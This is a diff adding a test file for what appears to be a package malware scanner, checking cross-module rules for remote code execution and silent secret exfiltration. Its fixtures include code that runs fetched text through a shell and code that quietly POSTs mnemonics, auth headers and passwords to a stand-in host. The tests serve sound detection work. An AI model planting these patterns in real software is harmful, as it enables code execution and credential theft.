@@ -1,0 +1,98 @@
+"""What one module of a package hands to another, and what that does with it."""
+# ruff: noqa: E501 - the lines of other people's code are as long as they are
+
+import pytest
+
+from tests.scanner.signals.built import WHEEL, findings, wheel
+
+RUNS = b"""import subprocess
+
+
+def run(command):
+    return subprocess.check_output(command, shell=True, text=True)
+
+
+def read(path):
+    with open(path) as file:
+        return file.read()
+"""
+SENDS = b"""import threading
+from http.client import HTTPSConnection
+
+HOST = "c.example.invalid"
+
+
+def note(place, value):
+    threading.Thread(target=_tell, args=(place, value)).start()
+
+
+def count(name):
+    return len(name)
+
+
+def _tell(*words):
+    try:
+        line = HTTPSConnection(HOST)
+        line.request("POST", "/x", body="|".join(words))
+        line.getresponse().read()
+    except Exception:
+        pass
+"""
+RUN = {
+    "a function": b"import requests\nfrom .acts import run\n\ndef go():\n    run(requests.get(u).json()['c'])\n",
+    "of the module": b"import requests\nfrom . import acts\n\ndef go():\n    acts.run(requests.get(u).text)\n",
+    "whichever the answer names": (
+        b"import requests\nfrom . import acts\n\ndef go():\n    job = requests.post(u).json()\n"
+        b"    getattr(acts, job['do'])(**job['with'])\n"
+    ),
+}
+ONLY_ASKED = {
+    "another function": b"import requests\nfrom .acts import read, run\n\ndef go():\n    read(requests.get(u).text)\n    run('date')\n",
+    "a part of a command": b"import requests\nfrom .acts import run\n\ndef go():\n    run(f'git clone {requests.get(u).text}')\n",
+    "whichever its user names": (
+        b"import requests\nfrom . import acts\n\ndef go(name):\n    job = requests.post(u).json()\n"
+        b"    getattr(acts, name)(job['x'])\n"
+    ),
+}
+SENT = {
+    "a key": (b"from .acts import note\n\ndef unlock(mnemonic):\n    note('w', mnemonic)\n", "secret-sent-silently"),
+    "what a request shows": (
+        b"from . import acts\n\ndef send(request):\n    acts.note(request.url, request.headers['Authorization'])\n",
+        "secret-sent-silently",
+    ),
+    "a password": (
+        b"from . import acts\n\ndef login(password):\n    acts.note('p', password)\n",
+        "secret-sent-unheard",
+    ),
+}
+
+
+def _told(source: bytes, acts: bytes) -> set[str]:
+    files = {"tidetables/acts.py": acts, "tidetables/core.py": source}
+    return {found.rule for found in findings(WHEEL, wheel(files)) if found.member == "tidetables/acts.py"}
+
+
+@pytest.mark.parametrize("source", RUN.values(), ids=RUN)
+def test_an_answer_that_is_handed_to_what_runs_it_is_told(source: bytes) -> None:
+    assert "remote-is-run" in _told(source, RUNS)
+
+
+@pytest.mark.parametrize("source", ONLY_ASKED.values(), ids=ONLY_ASKED)
+def test_an_answer_that_is_handed_to_what_does_not_run_it_tells_nothing(source: bytes) -> None:
+    assert "remote-is-run" not in _told(source, RUNS)
+
+
+@pytest.mark.parametrize(("source", "told"), SENT.values(), ids=SENT)
+def test_a_secret_that_is_handed_to_what_sends_it_in_silence_is_told(source: bytes, told: str) -> None:
+    assert {name for name in _told(source, SENDS) if name.startswith("secret-sent")} >= {told}
+
+
+def test_a_secret_that_is_handed_to_what_sends_nothing_of_it_tells_nothing() -> None:
+    source = b"from .acts import count, note\n\ndef unlock(mnemonic):\n    note('w', 'n')\n    count(mnemonic)\n"
+    assert not any(name.startswith("secret-sent") for name in _told(source, SENDS))
+
+
+def test_a_failure_that_is_heard_is_no_theft() -> None:
+    loud = SENDS.replace(b"pass", b"raise")
+    loud = loud.replace(b"threading.Thread(target=_tell, args=(place, value)).start()", b"_tell(place, value)")
+    assert not any(name.startswith("secret-sent") for name in _told(SENT["a key"][0], loud))
